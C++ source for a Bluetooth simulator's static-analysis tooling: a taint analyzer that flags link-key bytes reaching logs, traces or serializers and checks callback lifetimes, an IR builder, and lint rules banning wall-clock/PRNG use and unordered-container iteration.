    if (!flagged.insert({t[at].line, kind}).second) return;
    emit_sink(scan, env, kind, t[at].line, from, to, std::move(message));
  };

  for (std::size_t i = env.fn->body_begin + 1; i < env.fn->body_end; ++i) {
    // Stream/append serializer sinks don't look like calls; handle the
    // call-shaped sinks first.
    if (is_ident(t[i]) && i + 1 < env.fn->body_end && t[i + 1].text == "(") {
      const std::string& name = t[i].text;
      const std::size_t close = match_close(t, i + 1);

      if (log_macros().count(name) != 0) {
        const std::string atom = tainted_atom(prog, env, i + 2, close);
        if (!atom.empty())
          emit("log", i, close,
               "secret-tainted value '" + atom + "' reaches " + name +
                   "; log key *events*, never key bytes (S2 dataflow)");
        continue;
      }

      const bool dotted = i > 0 && (t[i - 1].text == "." || t[i - 1].text == "->");
      // The sink boundary is the call INTO the obs layer; the wrappers in
      // src/obs/ would otherwise re-report every caller's pushed taint.
      if (dotted && obs_methods().count(name) != 0 &&
          !path_has(env.file->path, "src/obs/")) {
        const std::string base = receiver_base(t, i - 1);
        std::string lower = base;
        std::transform(lower.begin(), lower.end(), lower.begin(),
                       [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
        const bool obs_receiver = lower.find("obs") != std::string::npos ||
                                  lower.find("trace") != std::string::npos ||
                                  lower.find("metric") != std::string::npos;
        const std::string atom = (name != "add" || obs_receiver)
                                     ? tainted_atom(prog, env, i + 2, close)
                                     : std::string();
        if (!atom.empty())
          emit("obs", i, close,
               "secret-tainted value '" + atom + "' reaches obs emission '" + name +
                   "'; traces/metrics must carry key events, not key bytes");
        continue;
      }

      if (dotted && writer_methods().count(name) != 0) {
        const std::string base = receiver_base(t, i - 1);
        const Decl* d = base.empty() ? nullptr : decl_of(*env.fn, base);
        const std::string atom = (d != nullptr && d->type_has("StateWriter"))
                                     ? tainted_atom(prog, env, i + 2, close)
                                     : std::string();
        if (!atom.empty())
          emit("snapshot", i, close,
               "secret-tainted value '" + atom + "' serialized via StateWriter::" +
                   name + " outside the declassified key section");
        continue;
      }

      if (name == "make_event" && record_builder_context(env.file->path)) {
        bool key_bearing = false;
        for (std::size_t k = i + 2; k < close; ++k)
          if (key_event_consts().count(t[k].text) != 0) key_bearing = true;
        if (key_bearing)
          emit("record-builder", i, close,
               "hand-built key-bearing HCI record (Return_Link_Keys / "
               "Link_Key_Notification payloads are plaintext key material)");
        continue;
      }
    }

    if (!serializer_context(env)) continue;
    // `out << tainted`, `s += tainted`, `s.append(tainted)` in a serializer.
    const bool stream = t[i].text == "<" && i + 1 < env.fn->body_end &&
                        t[i + 1].text == "<" && t[i + 1].line == t[i].line;
    const bool plus_eq = t[i].text == "+" && i + 1 < env.fn->body_end &&
                         t[i + 1].text == "=";
    const bool append = t[i].text == "append" && i > 0 &&
                        (t[i - 1].text == "." || t[i - 1].text == "->") &&
                        i + 1 < env.fn->body_end && t[i + 1].text == "(";
    if (!stream && !plus_eq && !append) continue;
    std::size_t end = i + 2;
    if (append) {
      end = match_close(t, i + 1);
    } else {
      while (end < env.fn->body_end && t[end].text != ";" && t[end].text != "{") ++end;
    }
    const std::string atom = tainted_atom(prog, env, i + 2, end);
    if (!atom.empty())
      emit("serializer", i, t.size(),
           "secret-tainted value '" + atom + "' flows into serializer output "
           "(JSON/CSV/bt-config writers emit attacker-visible artifacts)");
  }
}

void scan_lifetimes(const FnState& env, Report& report) {
  const auto& t = env.file->lex.tokens;
  const Lexed& lx = env.file->lex;
  for (std::size_t i = env.fn->body_begin + 1; i < env.fn->body_end; ++i) {
    if (scheduler_calls().count(t[i].text) == 0) continue;
    if (i + 1 >= env.fn->body_end || t[i + 1].text != "(") continue;
    const std::size_t close = match_close(t, i + 1);
    const int stmt_from = t[i].line;
    const int stmt_to = close < t.size() ? t[close].line : t[i].line;
    // Lambdas passed directly as arguments: '[' right after '(' or ','.
    for (std::size_t j = i + 2; j < close; ++j) {
      if (t[j].text != "[" || (t[j - 1].text != "(" && t[j - 1].text != ",")) continue;
      const std::size_t cap_close = match_close(t, j);
      if (cap_close >= close) break;
      // Lambda body range (for the revalidation proof).
      std::size_t body_open = cap_close + 1;
      while (body_open < close && t[body_open].text != "{") ++body_open;
      const std::size_t body_close =
          body_open < close ? match_close(t, body_open) : close;
      bool revalidates = false, null_checked = false;
      for (std::size_t k = body_open; k < body_close; ++k) {
        if (t[k].text == "resolve") revalidates = true;
        if (t[k].text == "nullptr" || t[k].text == "!") null_checked = true;
      }

      bool handle_captured = false;
      for (std::size_t k = j + 1; k < cap_close; ++k) {
        if (!is_ident(t[k]) || t[k].text == "this") continue;
        const Decl* d = decl_of(*env.fn, t[k].text);
        if (d == nullptr) continue;
        if (d->type_has("EndpointHandle") ||
            (!d->type.empty() && d->type.back().size() > 6 &&
             d->type.back().find("Handle") != std::string::npos))
          handle_captured = true;
        bool device_ptr = false;
        for (const std::string& dev : device_types())
          if (d->is_pointer_to(dev)) device_ptr = true;
        if (!device_ptr) continue;
        if (suppressed_range(lx, stmt_from, stmt_to, kLifetimeTag)) continue;
        report.findings.push_back(Finding{
            Rule::kD6Lifetime, env.file->path, t[k].line,
            "scheduler callback captures raw device pointer '" + t[k].text +
                "'; capture the EndpointHandle and re-validate via resolve() "
                "+ nullptr check at fire time (D6)"});
      }
      if (handle_captured && revalidates && null_checked) ++report.proven_lifetime_sites;
      j = cap_close;
    }
    i = close < t.size() ? close : i;
  }
}

Program build_program(const std::vector<NamedSource>& sources) {
  Program prog;
  prog.files.reserve(sources.size());
  for (const NamedSource& src : sources) {
    std::string norm = src.path;
    std::replace(norm.begin(), norm.end(), '\\', '/');
    prog.files.push_back(build_ir(std::move(norm), src.content));
  }
  for (const SourceFile& f : prog.files) collect_secret_fields(f, prog.secret_fields);
  for (const SourceFile& f : prog.files) {
    for (const Function& fn : f.functions) {
      FnState st;
      st.file = &f;
      st.fn = &fn;
      prog.fns.push_back(st);
    }
  }
  for (std::size_t i = 0; i < prog.fns.size(); ++i)
    prog.by_name[prog.fns[i].fn->name].push_back(i);
  return prog;
}

/// Push caller taint into callee parameters at every call site of `env`.
/// Context-insensitive by design: the union over call sites decides what a
/// callee's *body* may hold — but never what it returns (see header).
bool push_call_args(const Program& prog, const FnState& env,
                    std::vector<FnState>& fns) {
  const auto& t = env.file->lex.tokens;
  bool changed = false;
  for (std::size_t i = env.fn->body_begin + 1; i < env.fn->body_end; ++i) {
    if (!is_ident(t[i]) || i + 1 >= env.fn->body_end || t[i + 1].text != "(") continue;
    auto it = prog.by_name.find(t[i].text);
    if (it == prog.by_name.end()) continue;
    const auto args = split_args(t, i + 1);
    for (std::size_t a = 0; a < args.size(); ++a) {
      // Lambda-valued arguments carry code: a secret referenced in the body
      // must not taint the callback parameter itself.
      if (args[a].first < args[a].second && t[args[a].first].text == "[") continue;
      if (!expr_tainted(prog, env, args[a].first, args[a].second)) continue;
      for (std::size_t fi : it->second) {
        FnState& callee = fns[fi];
        if (a < callee.fn->params.size() &&
            callee.taint.insert(callee.fn->params[a].name).second)
          changed = true;
      }
    }
  }
  return changed;
}

}  // namespace

const char* rule_id(Rule rule) {
  switch (rule) {
    case Rule::kS2SecretFlow: return "S2";
    case Rule::kD6Lifetime: return "D6";
  }
  return "?";
}

Report analyze_sources(const std::vector<NamedSource>& sources) {
  Program prog = build_program(sources);
  Report report;
  report.files_analyzed = static_cast<int>(prog.files.size());
  report.functions_analyzed = static_cast<int>(prog.fns.size());

  // Phase A — returns-secret fixpoint under each function's OWN seeds.
  for (FnState& f : prog.fns) {
    for (const std::string& s : secret_types())
      if (std::find(f.fn->return_type.begin(), f.fn->return_type.end(), s) !=
          f.fn->return_type.end())
        f.returns_secret = true;
  }
  for (int round = 0; round < 10; ++round) {
    bool changed = false;
    for (FnState& f : prog.fns) {
      f.taint = local_seed(*f.fn);
      propagate(prog, f);
      if (!f.returns_secret && any_return_tainted(prog, f)) {
        f.returns_secret = true;
        changed = true;
      }
    }
    if (!changed) break;
  }

  // Phase B — push tainted call arguments into callee bodies (sink
  // detection inside shared helpers), then re-propagate, to fixpoint.
  for (int round = 0; round < 10; ++round) {
    bool changed = false;
    for (FnState& f : prog.fns) propagate(prog, f);
    for (const FnState& f : prog.fns)
      if (push_call_args(prog, f, prog.fns)) changed = true;
    if (!changed) break;
  }

  if (const char* dbg = std::getenv("BLAP_TAINT_DEBUG"); dbg != nullptr) {
    for (const FnState& f : prog.fns) {
      if (f.returns_secret)
        std::fprintf(stderr, "returns-secret: %s (%s:%d)\n", f.fn->qualified.c_str(),
                     f.file->path.c_str(), f.fn->line);
      if (dbg[0] != '\0' && path_has(f.file->path, dbg) && !f.taint.empty()) {
        std::fprintf(stderr, "env %s:%d %s:", f.file->path.c_str(), f.fn->line,
                     f.fn->qualified.c_str());
        for (const std::string& n : f.taint) std::fprintf(stderr, " %s", n.c_str());
        std::fprintf(stderr, "\n");
      }
    }
  }

  // Sinks (S2) and callback lifetimes (D6).
  SinkScan scan;
  scan.report = &report;
  for (const FnState& f : prog.fns) {
    scan_sinks(prog, f, scan);
    scan_lifetimes(f, report);
  }

  std::sort(report.findings.begin(), report.findings.end(),
            [](const Finding& a, const Finding& b) {
              if (a.file != b.file) return a.file < b.file;
              if (a.line != b.line) return a.line < b.line;
              return static_cast<int>(a.rule) < static_cast<int>(b.rule);
            });
  std::sort(report.declassified.begin(), report.declassified.end(),
            [](const Site& a, const Site& b) {
              if (a.file != b.file) return a.file < b.file;
              if (a.function != b.function) return a.function < b.function;
              return a.kind < b.kind;
            });
  return report;
}

Report analyze_files(const std::vector<std::string>& paths) {
  std::vector<NamedSource> sources;
  sources.reserve(paths.size());
  for (const std::string& p : paths) {
    std::ifstream in(p, std::ios::binary);
    if (!in) continue;
    std::ostringstream buf;
    buf << in.rdbuf();
    sources.push_back(NamedSource{p, buf.str()});
  }
  return analyze_sources(sources);
}

std::vector<std::string> compile_commands_files(const std::string& json_path) {
  std::vector<std::string> out;
  std::ifstream in(json_path, std::ios::binary);
  if (!in) return out;
  std::ostringstream buf;
  buf << in.rdbuf();
  const std::string text = buf.str();
  // Deliberately crude: compile_commands.json is machine-written, and the
  // only shape we need is `"file": "<path>"`.
  std::size_t at = 0;
  while ((at = text.find("\"file\"", at)) != std::string::npos) {
    at += 6;
    const std::size_t open = text.find('"', text.find(':', at));
    if (open == std::string::npos) break;
    const std::size_t close = text.find('"', open + 1);
    if (close == std::string::npos) break;
    out.push_back(text.substr(open + 1, close - open - 1));
    at = close + 1;
  }
  std::sort(out.begin(), out.end());
  out.erase(std::unique(out.begin(), out.end()), out.end());
  return out;
}

std::vector<std::string> tree_files(const std::string& root) {
  namespace fs = std::filesystem;
  std::vector<std::string> files;
  for (const char* dir : {"src", "examples", "bench", "tests", "tools"}) {
    const fs::path base = fs::path(root) / dir;
    if (!fs::exists(base)) continue;
    for (const auto& entry : fs::recursive_directory_iterator(base)) {
      if (!entry.is_regular_file()) continue;
      std::string p = entry.path().string();
      std::replace(p.begin(), p.end(), '\\', '/');
      if (path_has(p, "lint_fixtures") || path_has(p, "taint_fixtures") ||
          path_has(p, "/build"))
        continue;
      const std::string ext = entry.path().extension().string();
      if (ext == ".cpp" || ext == ".hpp" || ext == ".h" || ext == ".cc")
        files.push_back(std::move(p));
    }
  }
  std::sort(files.begin(), files.end());
  files.erase(std::unique(files.begin(), files.end()), files.end());
  return files;
}

std::string to_string(const Finding& finding) {
  std::ostringstream out;
  out << finding.file << ":" << finding.line << ": [" << rule_id(finding.rule) << "] "
      << finding.message;
  return out.str();
}

namespace {
std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size() + 2);
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char hex[8];
          std::snprintf(hex, sizeof hex, "\\u%04x", c);
          out += hex;
        } else {
          out += c;
        }
    }
  }
  return out;
}
}  // namespace

std::string report_json(const Report& report) {
  std::ostringstream out;
  out << "{\n  \"findings\": [";
  for (std::size_t i = 0; i < report.findings.size(); ++i) {
    const Finding& f = report.findings[i];
    out << (i == 0 ? "\n" : ",\n") << "    {\"rule\": \"" << rule_id(f.rule)
        << "\", \"file\": \"" << json_escape(f.file) << "\", \"line\": " << f.line
        << ", \"message\": \"" << json_escape(f.message) << "\"}";
  }
  out << (report.findings.empty() ? "" : "\n  ") << "],\n  \"declassified_sites\": [";
  for (std::size_t i = 0; i < report.declassified.size(); ++i) {
    const Site& s = report.declassified[i];
    out << (i == 0 ? "\n" : ",\n") << "    {\"file\": \"" << json_escape(s.file)
        << "\", \"function\": \"" << json_escape(s.function) << "\", \"kind\": \""
        << s.kind << "\", \"line\": " << s.line << ", \"why\": \"" << json_escape(s.why)
        << "\"}";
  }
  out << (report.declassified.empty() ? "" : "\n  ") << "],\n";
  out << "  \"proven_lifetime_sites\": " << report.proven_lifetime_sites << ",\n";
  out << "  \"files_analyzed\": " << report.files_analyzed << ",\n";
  out << "  \"functions_analyzed\": " << report.functions_analyzed << "\n}\n";
  return out.str();
}

std::vector<std::string> site_lines(const Report& report, const std::string& strip_prefix) {
  std::set<std::string> lines;
  for (const Site& s : report.declassified) {
    std::string file = s.file;
    if (!strip_prefix.empty() && file.rfind(strip_prefix, 0) == 0) {
      file = file.substr(strip_prefix.size());
      while (!file.empty() && file.front() == '/') file.erase(0, 1);
    }
    lines.insert(file + ":" + s.function + ":" + s.kind);
  }
  return {lines.begin(), lines.end()};
}

}  // namespace blap::taint
