// ir.cpp — mini-IR builder for blap-taint (see ir.hpp).
#include "ir.hpp"

#include <algorithm>
#include <set>

namespace blap::taint {
namespace {

using lint::ident_start;
using lint::match_close;

const std::set<std::string>& control_keywords() {
  static const std::set<std::string> kw = {
      "if",     "for",    "while",  "switch",   "catch",   "return", "sizeof",
      "typeid", "new",    "delete", "co_await", "co_yield", "co_return",
      "throw",  "else",   "do",     "goto",     "case",    "default",
      "static_assert", "alignas", "alignof", "decltype", "assert"};
  return kw;
}

const std::set<std::string>& decl_qualifiers() {
  static const std::set<std::string> kw = {"const",    "constexpr", "static", "inline",
                                           "volatile", "mutable",   "typename", "struct",
                                           "class",    "unsigned",  "signed",  "long",
                                           "short",    "register",  "thread_local"};
  return kw;
}

/// Skip a `[[...]]` attribute run starting at `i`; returns the index past it
/// (or `i` unchanged if there is no attribute here).
std::size_t skip_attributes(const std::vector<Token>& t, std::size_t i) {
  while (i + 1 < t.size() && t[i].text == "[" && t[i + 1].text == "[") {
    const std::size_t inner_close = match_close(t, i + 1);
    if (inner_close >= t.size() || inner_close + 1 >= t.size() ||
        t[inner_close + 1].text != "]")
      return i;
    i = inner_close + 2;
  }
  return i;
}

/// Parse one parameter chunk [first, last) into a Decl; empty name on
/// failure (unnamed parameter, `void`, `...`).
Decl parse_param(const std::vector<Token>& t, std::size_t first, std::size_t last) {
  Decl decl;
  first = skip_attributes(t, first);
  if (first >= last) return decl;
  // Default argument: the name is the identifier before the top-level '='.
  std::size_t name_at = last;
  int depth = 0;
  for (std::size_t i = first; i < last; ++i) {
    const std::string& s = t[i].text;
    if (s == "(" || s == "[" || s == "{") ++depth;
    else if (s == ")" || s == "]" || s == "}") --depth;
    else if (s == "=" && depth == 0) {
      if (i > first && ident_start(t[i - 1].text[0])) name_at = i - 1;
      last = i;
      break;
    }
  }
  if (name_at == last || name_at >= t.size()) {
    // Function-pointer-ish parameter `ret name(args)`: name precedes the
    // trailing paren group. Otherwise the name is the last identifier.
    std::size_t end = last;
    if (end > first && t[end - 1].text == ")") {
      int d = 0;
      for (std::size_t i = end; i > first; --i) {
        const std::string& s = t[i - 1].text;
        if (s == ")") ++d;
        else if (s == "(" && --d == 0) {
          end = i - 1;
          break;
        }
      }
    }
    if (end <= first || !ident_start(t[end - 1].text.empty() ? '\0' : t[end - 1].text[0]))
      return decl;
    name_at = end - 1;
  }
  if (name_at <= first) return decl;  // single token: an unnamed `int` / `void`
  const std::string& name = t[name_at].text;
  if (name == "void" || control_keywords().count(name) != 0) return decl;
  decl.name = name;
  decl.line = t[name_at].line;
  for (std::size_t i = first; i < name_at; ++i) decl.type.push_back(t[i].text);
  if (decl.type.empty()) decl.name.clear();
  return decl;
}

/// Try to parse a typed local declaration at statement start `i` (which must
/// not be a keyword). Returns a Decl with empty name when this is not one.
Decl parse_local_decl(const std::vector<Token>& t, std::size_t i, std::size_t limit) {
  Decl decl;
  std::size_t j = skip_attributes(t, i);
  std::size_t type_first = j;
  // Qualifier / type-name run: `const crypto::LinkKey` / `auto` / `Foo<T>`.
  bool saw_type = false;
  while (j < limit) {
    const std::string& s = t[j].text;
    if (decl_qualifiers().count(s) != 0) {
      ++j;
      continue;
    }
    if (ident_start(s.empty() ? '\0' : s[0]) && control_keywords().count(s) == 0) {
      saw_type = true;
      ++j;
      // Qualified name / template arguments.
      while (j < limit) {
        if (t[j].text == "::" && j + 1 < limit && ident_start(t[j + 1].text[0])) {
          j += 2;
          continue;
        }
        if (t[j].text == "<") {
          const std::size_t close = match_close(t, j);
          if (close >= limit) return decl;
          j = close + 1;
          continue;
        }
        break;
      }
      break;
    }
    return decl;
  }
  if (!saw_type || j >= limit) return decl;
  while (j < limit && (t[j].text == "*" || t[j].text == "&")) ++j;
  if (j >= limit || !ident_start(t[j].text.empty() ? '\0' : t[j].text[0])) return decl;
  if (control_keywords().count(t[j].text) != 0) return decl;
  // A declaration's name is followed by =, ;, ,, ( or { — anything else
  // (., ->, an operator) means this was an expression statement.
  if (j + 1 >= limit) return decl;
  const std::string& next = t[j + 1].text;
  if (next != "=" && next != ";" && next != "," && next != "(" && next != "{") return decl;
  if (j == type_first) return decl;  // a lone identifier is not a declaration
  decl.name = t[j].text;
  decl.line = t[j].line;
  for (std::size_t k = type_first; k < j; ++k) decl.type.push_back(t[k].text);
  return decl;
}

}  // namespace

bool Decl::type_has(std::string_view t) const {
  return std::find(type.begin(), type.end(), t) != type.end();
}

bool Decl::is_pointer_to(std::string_view t) const {
  return type_has(t) && type_has("*");
}

std::vector<std::pair<std::size_t, std::size_t>> split_args(const std::vector<Token>& tokens,
                                                            std::size_t open) {
  std::vector<std::pair<std::size_t, std::size_t>> out;
  const std::size_t close = match_close(tokens, open);
  if (close >= tokens.size() || close == open + 1) return out;
  int depth = 0;
  std::size_t first = open + 1;
  for (std::size_t i = open + 1; i < close; ++i) {
    const std::string& s = tokens[i].text;
    if (s == "(" || s == "[" || s == "{" || s == "<") ++depth;
    else if (s == ")" || s == "]" || s == "}" || s == ">") --depth;
    else if (s == "," && depth == 0) {
      out.emplace_back(first, i);
      first = i + 1;
    }
  }
  out.emplace_back(first, close);
  return out;
}

SourceFile build_ir(std::string path, std::string_view content) {
  SourceFile out;
  out.path = std::move(path);
  out.lex = lint::lex(content);
  const auto& t = out.lex.tokens;
  const std::size_t n = t.size();

  for (std::size_t i = 0; i < n; ++i) {
    if (!ident_start(t[i].text.empty() ? '\0' : t[i].text[0])) continue;
    if (i + 1 >= n || t[i + 1].text != "(") continue;
    if (control_keywords().count(t[i].text) != 0) continue;
    const std::size_t close = match_close(t, i + 1);
    if (close >= n) continue;

    // After the parameter list: qualifiers, a constructor initializer list,
    // or a trailing return type may precede the body's '{'. Anything else
    // (';', an operator, a comma) means declaration or call — skip.
    std::size_t j = close + 1;
    bool is_def = false;
    while (j < n) {
      const std::string& s = t[j].text;
      if (s == "const" || s == "noexcept" || s == "override" || s == "final" ||
          s == "mutable" || s == "&" || s == "&&" || s == "try") {
        ++j;
        continue;
      }
      if (s == "->") {  // trailing return type: skip to '{' or give up at ';'
        while (j < n && t[j].text != "{" && t[j].text != ";") ++j;
        continue;
      }
      if (s == ":") {  // constructor initializer list
        ++j;
        int depth = 0;
        while (j < n) {
          const std::string& w = t[j].text;
          if (w == "(") ++depth;
          else if (w == ")") --depth;
          else if (w == "{" && depth == 0) {
            // `member_{x}` braces follow an identifier or '>', the body's
            // '{' follows ')' or '}' (the last initializer's closer).
            const std::string& prev = t[j - 1].text;
            if (prev == ")" || prev == "}") break;
            const std::size_t skip = match_close(t, j);
            if (skip >= n) break;
            j = skip;
          } else if (w == ";") {
            break;
          }
          ++j;
        }
        continue;
      }
      if (s == "{") is_def = true;
      break;
    }
    if (!is_def || j >= n) continue;
    const std::size_t body_begin = j;
    const std::size_t body_end = match_close(t, body_begin);
    if (body_end >= n) continue;

    Function fn;
    fn.name = t[i].text;
    fn.qualified = fn.name;
    fn.file = out.path;
    fn.line = t[i].line;
    fn.body_begin = body_begin;
    fn.body_end = body_end;
    // Qualified-name chain: `Class::name` (keep the innermost qualifier).
    std::size_t name_first = i;
    while (name_first >= 2 && t[name_first - 1].text == "::" &&
           ident_start(t[name_first - 2].text[0]))
      name_first -= 2;
    if (name_first != i) fn.qualified = t[i - 2].text + "::" + fn.name;
    // Return type: walk back from the name chain to the previous structural
    // token (bounded — long template headers contribute nothing useful).
    static const std::set<std::string> kStop = {";", "{",  "}", ":", ",", "(", ")",
                                               "public", "private", "protected"};
    std::size_t rt_first = name_first;
    while (rt_first > 0 && name_first - rt_first < 16) {
      const std::string& s = t[rt_first - 1].text;
      if (kStop.count(s) != 0) break;
      --rt_first;
    }
    for (std::size_t k = rt_first; k < name_first; ++k) fn.return_type.push_back(t[k].text);
    if (fn.return_type.empty() && name_first == i && t[i].text != "TEST" &&
        t[i].text != "TEST_F") {
      // No return type and no `Class::` qualification: only constructors and
      // destructors look like this, and both need a preceding '~' or a class
      // context we cannot see. gtest TEST bodies are kept — they hand-build
      // the captures the record-builder sink watches for.
      const bool dtor = i > 0 && t[i - 1].text == "~";
      if (!dtor) {
        i = close;  // not a definition we understand; resume after the parens
        continue;
      }
    }
    for (const auto& [first, last] : split_args(t, i + 1)) {
      Decl p = parse_param(t, first, last);
      if (!p.name.empty()) fn.params.push_back(std::move(p));
    }
    // Typed locals: statement starts inside the body.
    std::size_t stmt = body_begin + 1;
    for (std::size_t k = body_begin + 1; k < body_end; ++k) {
      const std::string& s = t[k].text;
      if (s == ";" || s == "{" || s == "}") {
        stmt = k + 1;
        continue;
      }
      if (k == stmt) {
        Decl d = parse_local_decl(t, k, body_end);
        if (!d.name.empty()) fn.locals.push_back(std::move(d));
      }
    }
    out.functions.push_back(std::move(fn));
    i = body_end;  // no nested function definitions; skip the body
  }
  return out;
}

}  // namespace blap::taint
