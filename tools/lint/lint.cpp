// lint.cpp — rule passes for blap-lint (see lint.hpp). The tokenizer lives
// in lex.{hpp,cpp}, shared with blap-taint.
#include "lint.hpp"

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "lex.hpp"

namespace blap::lint {
namespace {

// --------------------------------------------------------------------------
// Shared helpers.

std::string normalize(std::string_view path) {
  std::string p(path);
  std::replace(p.begin(), p.end(), '\\', '/');
  return p;
}

bool path_has(const std::string& path, std::string_view needle) {
  return path.find(needle) != std::string::npos;
}

void report(std::vector<Finding>& findings, const Lexed& lx, Rule rule, std::string_view path,
            int line, std::string message) {
  if (suppressed(lx, line, rule_tag(rule))) return;
  findings.push_back(Finding{rule, std::string(path), line, std::move(message)});
}

// --------------------------------------------------------------------------
// D1 — wall-clock / PRNG ban.

void rule_d1(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  if (!options.all_rules_everywhere) {
    // Host-side timing shells are allowed to read the wall clock: the
    // campaign engine's throughput report, benchmarks, and examples.
    if (path_has(path, "src/campaign/campaign.cpp") || path_has(path, "bench/") ||
        path_has(path, "examples/"))
      return;
  }
  static const std::set<std::string> kBannedIdent = {
      "system_clock",   "steady_clock", "high_resolution_clock", "srand",
      "gettimeofday",   "clock_gettime", "localtime",            "gmtime",
      "random_device",  "rand_r",
  };
  static const std::set<std::string> kBannedCall = {"rand", "time", "clock"};
  const auto& t = lx.tokens;
  // A file may define its own function shadowing a libc name (E0's LFSR
  // `clock()` is cipher terminology): a definition `Type::name(` or a
  // declaration `void name(` exempts bare calls to that name in this file.
  // Explicitly qualified `std::name(` is always flagged.
  std::set<std::string> locally_defined;
  for (std::size_t i = 1; i + 1 < t.size(); ++i) {
    if (kBannedCall.count(t[i].text) == 0 || t[i + 1].text != "(") continue;
    static const std::set<std::string> kNotTypes = {
        "return", "throw",     "case",     "else",     "do",      "goto",  "new",
        "delete", "sizeof",    "typeid",   "co_await", "co_yield", "co_return",
        "not",    "and",       "or"};
    const std::string& prev = t[i - 1].text;
    const bool member_def = prev == "::" && (i < 2 || t[i - 2].text != "std");
    const bool declaration =
        ident_start(prev.empty() ? '\0' : prev[0]) && kNotTypes.count(prev) == 0;
    if (member_def || declaration) locally_defined.insert(t[i].text);
  }
  for (std::size_t i = 0; i < t.size(); ++i) {
    if (kBannedIdent.count(t[i].text) != 0) {
      report(findings, lx, Rule::kD1Wallclock, path, t[i].line,
             "wall-clock/PRNG source '" + t[i].text +
                 "' in simulation code; derive time from Scheduler::now() and "
                 "randomness from a seeded Rng");
      continue;
    }
    if (kBannedCall.count(t[i].text) != 0 && i + 1 < t.size() && t[i + 1].text == "(") {
      const bool member = i > 0 && (t[i - 1].text == "." || t[i - 1].text == "->");
      const bool std_qualified =
          i >= 2 && t[i - 1].text == "::" && t[i - 2].text == "std";
      if (member) continue;
      if (!std_qualified && locally_defined.count(t[i].text) != 0) continue;
      report(findings, lx, Rule::kD1Wallclock, path, t[i].line,
             "call to '" + t[i].text + "(...)' in simulation code; virtual time only");
    }
  }
}

// --------------------------------------------------------------------------
// D2 — unordered-container iteration.

/// Names declared with an unordered container type in this token stream.
std::set<std::string> unordered_names(const std::vector<Token>& t) {
  std::set<std::string> names;
  for (std::size_t i = 0; i < t.size(); ++i) {
    if (t[i].text != "unordered_map" && t[i].text != "unordered_set" &&
        t[i].text != "unordered_multimap" && t[i].text != "unordered_multiset")
      continue;
    std::size_t j = i + 1;
    if (j < t.size() && t[j].text == "<") {
      j = match_close(t, j);
      if (j == t.size()) continue;
      ++j;
    }
    // `unordered_map<...>::iterator` etc. is a type use, not a declaration.
    if (j < t.size() && t[j].text == "::") continue;
    while (j < t.size() && (t[j].text == "*" || t[j].text == "&")) ++j;
    if (j < t.size() && ident_start(t[j].text[0])) names.insert(t[j].text);
  }
  return names;
}

void rule_d2(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  // tools/snoopd ships the determinism contract to users (CI byte-diffs its
  // FleetReport across --jobs values), so it is held to the same ordered-
  // container discipline as src/.
  if (!options.all_rules_everywhere && !path_has(path, "src/") &&
      !path_has(path, "tools/snoopd/"))
    return;
  std::set<std::string> names = unordered_names(lx.tokens);
  names.insert(options.known_unordered.begin(), options.known_unordered.end());
  if (names.empty()) return;
  const auto& t = lx.tokens;
  auto flag = [&](std::size_t at, const std::string& name) {
    report(findings, lx, Rule::kD2Ordered, path, t[at].line,
           "iteration over unordered container '" + name +
               "': order is rehash-dependent and may reach serialized output; use an "
               "ordered container or sort first");
  };
  for (std::size_t i = 0; i < t.size(); ++i) {
    // Range-for whose range expression mentions an unordered name.
    if (t[i].text == "for" && i + 1 < t.size() && t[i + 1].text == "(") {
      const std::size_t close = match_close(t, i + 1);
      std::size_t colon = t.size();
      for (std::size_t k = i + 2; k < close; ++k) {
        if (t[k].text == ":" && (k == 0 || t[k - 1].text != ":") &&
            (k + 1 >= t.size() || t[k + 1].text != ":")) {
          colon = k;
          break;
        }
      }
      if (colon != t.size()) {
        for (std::size_t k = colon + 1; k < close; ++k) {
          if (names.count(t[k].text) != 0) {
            flag(k, t[k].text);
            break;
          }
        }
      }
    }
    // Iterator-style walk: name.begin() / name.cbegin().
    if (names.count(t[i].text) != 0 && i + 3 < t.size() &&
        (t[i + 1].text == "." || t[i + 1].text == "->") &&
        (t[i + 2].text == "begin" || t[i + 2].text == "cbegin") && t[i + 3].text == "(")
      flag(i, t[i].text);
  }
}

// --------------------------------------------------------------------------
// D3 — raw device pointers captured into scheduler callbacks.

void rule_d3(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  if (!options.all_rules_everywhere && !path_has(path, "src/")) return;
  static const std::set<std::string> kDeviceTypes = {"Device", "Controller", "HostStack",
                                                     "RadioEndpoint", "Simulation"};
  const auto& t = lx.tokens;
  // Names declared anywhere in this file as a raw pointer to a device-layer
  // type (parameters and locals both match `Type * name`).
  std::set<std::string> pointer_names;
  for (std::size_t i = 0; i + 2 < t.size(); ++i) {
    if (kDeviceTypes.count(t[i].text) != 0 && t[i + 1].text == "*" &&
        ident_start(t[i + 2].text[0]))
      pointer_names.insert(t[i + 2].text);
  }
  if (pointer_names.empty()) return;
  for (std::size_t i = 0; i + 1 < t.size(); ++i) {
    if (t[i].text != "schedule_in" && t[i].text != "schedule_at") continue;
    if (t[i + 1].text != "(") continue;
    const std::size_t close = match_close(t, i + 1);
    // The whole schedule statement — through the lambda body to the call's
    // closing paren — is one suppression range, so a tag anywhere on a
    // multi-line statement covers it (consistent with D5's statement range).
    const int stmt_end_line = close < t.size() ? t[close].line : t[i].line;
    // First lambda introducer inside the call's argument list.
    for (std::size_t k = i + 2; k < close; ++k) {
      if (t[k].text != "[") continue;
      const std::size_t cap_end = match_close(t, k);
      for (std::size_t c = k + 1; c < cap_end; ++c) {
        if (pointer_names.count(t[c].text) != 0) {
          if (!suppressed_range(lx, t[i].line, stmt_end_line, rule_tag(Rule::kD3Handle)))
            findings.push_back(Finding{
                Rule::kD3Handle, path, t[k].line,
                "scheduler callback captures raw device pointer '" + t[c].text +
                    "'; capture a generation-counted id/handle instead, or re-verify "
                    "liveness at fire time and suppress with a justification"});
          break;
        }
      }
      break;  // only the callback lambda itself, not nested lambdas
    }
  }
}

// --------------------------------------------------------------------------
